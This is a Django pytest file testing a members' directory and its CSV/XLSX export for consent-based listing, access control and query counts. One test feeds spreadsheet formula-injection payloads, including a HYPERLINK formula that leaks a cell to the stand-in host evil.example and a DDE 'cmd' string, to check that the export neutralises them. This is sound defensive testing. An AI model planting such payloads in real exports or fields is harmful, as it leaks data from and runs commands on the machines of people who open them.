"""Who agreed to be listed: the members' directory and the animators' export."""

import csv
import io
from datetime import timedelta
from types import SimpleNamespace

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from levier.accounts.models import Membership, OrgRole
from levier.insights.models import MemberState
from levier.membership.models import DirectoryEntry
from levier.programmes.models import Application, Programme
from tests.clubs.factories import make_club
from tests.factories import make_member, make_network, make_organisation

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


def listed(user, organisation, **fields) -> DirectoryEntry:
    membership = Membership.objects.get(user=user, organisation=organisation)
    return DirectoryEntry.objects.create(membership=membership, listed=True, **fields)


def export_rows(client, network, extension="csv") -> list[list[str]]:
    response = client.get(reverse("directory_export", args=[network.slug, extension]))
    assert response.status_code == 200
    if extension == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [
        ["" if value is None else str(value) for value in row]
        for row in sheet.iter_rows(values_only=True)
    ]


@pytest.fixture
def members(network):
    alpha = make_organisation(network, name="Alpha Conseil")
    beta = make_organisation(network, name="Beta Bois")
    claire = make_member(alpha, OrgRole.ADMIN, full_name="Claire Alpha")
    hidden = make_member(alpha, OrgRole.CONTRIBUTOR, full_name="Henri Caché")
    bruno = make_member(beta, OrgRole.CONTRIBUTOR, full_name="Bruno Beta")
    listed(claire, alpha, job_title="Dirigeante", can_help_with="Grille de salaires")
    listed(bruno, beta)
    # Henri said no: an entry that is not listed.
    DirectoryEntry.objects.create(
        membership=Membership.objects.get(user=hidden), listed=False, job_title="Secret"
    )
    return SimpleNamespace(alpha=alpha, beta=beta, claire=claire, hidden=hidden, bruno=bruno)


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_the_export_lists_only_the_contacts_who_agreed(
    client, network, animator, members, extension
):
    m = members
    club = make_club(network, name="Club Climat")
    club.members.create(user=m.claire, organisation=m.alpha)
    programme = Programme.objects.create(network=network, title="Cohorte RSE 2026")
    Application.objects.create(
        programme=programme, organisation=m.beta, answer="Oui", status=Application.Status.SELECTED
    )
    Application.objects.create(
        programme=Programme.objects.create(network=network, title="Refusé"),
        organisation=m.alpha,
        answer="Oui",
        status=Application.Status.DECLINED,
    )
    submitted = timezone.now() - timedelta(days=3)
    MemberState.objects.update_or_create(
        organisation=m.alpha, defaults={"network": network, "latest_submitted_at": submitted}
    )
    client.force_login(animator)

    header, *rows = export_rows(client, network, extension)

    by_name = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert set(by_name) == {"Alpha Conseil", "Beta Bois"}
    alpha_contacts = by_name["Alpha Conseil"]["Contacts inscrits à l’annuaire"]
    assert "Claire Alpha" in alpha_contacts and m.claire.email in alpha_contacts
    assert "Dirigeante" in alpha_contacts
    assert "Henri" not in alpha_contacts and m.hidden.email not in alpha_contacts
    assert m.bruno.email in by_name["Beta Bois"]["Contacts inscrits à l’annuaire"]
    assert by_name["Alpha Conseil"]["Clubs"] == "Club Climat"
    assert by_name["Beta Bois"]["Programmes"] == "Cohorte RSE 2026"
    assert by_name["Alpha Conseil"]["Programmes"] == ""
    assert by_name["Alpha Conseil"]["Dernière évaluation validée"] == submitted.date().isoformat()
    assert by_name["Beta Bois"]["Dernière évaluation validée"] == ""


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_the_export_writes_hostile_text_as_text(client, network, animator, extension):
    company = make_organisation(network, name=HOSTILE)
    person = make_member(company, OrgRole.ADMIN, full_name="+cmd|' /C calc'!A0")
    listed(person, company, job_title="@SUM(1+1)")
    client.force_login(animator)

    _header, row = export_rows(client, network, extension)

    assert row[0] == "'" + HOSTILE
    assert row[6].startswith("'+cmd")


def test_the_export_takes_the_same_queries_whatever_the_size(client, network, animator):
    client.force_login(animator)
    url = reverse("directory_export", args=[network.slug, "csv"])

    def queries():
        with CaptureQueriesContext(connection) as captured:
            assert client.get(url).status_code == 200
        return len(captured)

    organisation = make_organisation(network)
    listed(make_member(organisation), organisation)
    few = queries()
    for n in range(6):
        organisation = make_organisation(network, name=f"Membre {n}")
        listed(make_member(organisation), organisation)
        make_club(network, name=f"Club {n}").members.create(
            user=organisation.memberships.first().user, organisation=organisation
        )
    assert queries() == few


def test_members_and_other_networks_cannot_export(client, network, animator, members):
    m = members
    url = reverse("directory_export", args=[network.slug, "csv"])
    stranger = make_member(make_organisation(make_network()))
    outsiders = (make_member(m.alpha, OrgRole.ADMIN), stranger)
    for outsider in outsiders:
        client.force_login(outsider)
        assert client.get(url).status_code == 404
    client.force_login(animator)
    assert client.get(url).status_code == 200


def test_the_members_directory_shows_who_agreed_in_ones_networks_only(client, network, members):
    m = members
    elsewhere = make_organisation(make_network(), name="Gamma Ailleurs")
    stranger = make_member(elsewhere, full_name="Gaston Ailleurs")
    listed(stranger, elsewhere)
    client.force_login(m.bruno)

    page = client.get(reverse("members_directory")).content.decode()

    assert "Claire Alpha" in page and "Grille de salaires" in page and m.claire.email in page
    assert "Henri" not in page and "Secret" not in page
    assert "Gaston" not in page
    client.force_login(stranger)
    assert "Claire Alpha" not in client.get(reverse("members_directory")).content.decode()


def test_the_directory_search_finds_a_subject(client, network, members):
    m = members
    client.force_login(m.bruno)
    found = client.get(reverse("members_directory"), {"q": "salaires"}).content.decode()
    assert "Claire Alpha" in found
    none = client.get(reverse("members_directory"), {"q": "aquaculture"}).content.decode()
    assert "Claire Alpha" not in none


def test_a_person_lists_and_unlists_themselves(client, network, members):
    m = members
    url = reverse("directory_entry", args=[m.alpha.slug])
    client.force_login(m.hidden)

    client.post(url, {"listed": "on", "job_title": "Comptable", "can_help_with": "Paie"})

    entry = DirectoryEntry.objects.get(membership__user=m.hidden)
    assert entry.listed and entry.job_title == "Comptable"
    client.post(url, {"job_title": "Comptable"})
    entry.refresh_from_db()
    assert not entry.listed


def test_a_listing_is_for_ones_own_organisations_only(client, network, animator, members):
    m = members
    url = reverse("directory_entry", args=[m.alpha.slug])
    # Staff see the organisation's profile, but are not its people.
    client.force_login(animator)
    assert client.get(url).status_code == 404
    client.force_login(m.bruno)
    assert client.get(url).status_code == 404
    client.force_login(m.claire)
    assert client.get(url).status_code == 200
